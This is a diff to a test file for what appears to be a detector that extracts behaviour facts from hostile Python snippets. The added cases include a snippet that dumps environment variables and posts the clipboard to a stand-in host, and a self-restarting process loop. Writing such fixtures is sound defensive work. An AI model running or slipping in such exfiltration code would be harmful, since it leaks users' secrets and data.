@@ -140,6 +140,11 @@ const CASES: Record<string, Case[]> = {
       ],
     ],
     [
+      'the clipboard posted, the environment printed variable by variable',
+      'import os, pyperclip, requests\nfor k, v in os.environ.items():\n    print(k, v)\nrequests.post("https://x.example/c", data=pyperclip.paste())\n',
+      [net('send', { sends: ['user-data'] }), { kind: 'env', op: 'dump', line: 3 }],
+    ],
+    [
       'http.client and smtplib sends',
       'import http.client, smtplib\nc = http.client.HTTPSConnection("relay.example.net")\nc.request("POST", "/in", "x")\nsmtplib.SMTP("mail.example.net").sendmail("a", "b", "c")\n',
       [net('send', { target: 'relay.example.net/in' }), net('send', { api: 'smtplib.sendmail' })],
@@ -224,11 +229,16 @@ const CASES: Record<string, Case[]> = {
     ],
     [
       'a bounded loop and a poll loop',
-      'import time, subprocess\nfor i in range(3):\n    subprocess.run(["worker"])\nwhile True:\n    time.sleep(5)\n',
+      'import time, subprocess\nfor i in range(3):\n    subprocess.Popen(["worker"])\nwhile True:\n    time.sleep(5)\n',
       [
         { kind: 'loop', iterations: 3, spawns: true },
         { kind: 'loop', endless: true, spawns: false, fills: false },
       ],
+    ],
+    [
+      'a supervisor that waits for each copy it restarts',
+      'import subprocess, sys\nwhile True:\n    subprocess.Popen([sys.executable, __file__, "--child"]).wait()\n',
+      [proc('python3', { runsSelf: true, background: false }), { kind: 'loop', endless: true, forks: false }],
     ],
     [
       'public key read and rm of a temp dir',
@@ -285,6 +295,14 @@ describe('hostile Python', () => {
       `import os\nfor a in [${many}]:\n    for b in [${many}]:\n        os.remove(a + b)\n`,
     );
     expect(facts.filter((f) => f.kind === 'file').length).toBeLessThanOrEqual(16);
+  });
+
+  it('hands a bounded number of command lines to the shell', () => {
+    const items = Array.from({ length: 4000 }, (_, i) => `"gzip f${i}"`).join(', ');
+    const facts = extract(`import os\n[os.system(c) for c in [${items}]]\n`);
+    const processes = facts.filter((f) => f.kind === 'process').length;
+    expect(processes).toBeGreaterThan(0);
+    expect(processes).toBeLessThanOrEqual(512);
   });
 
   it('reads helper chains with a bounded number of helper calls', () => {
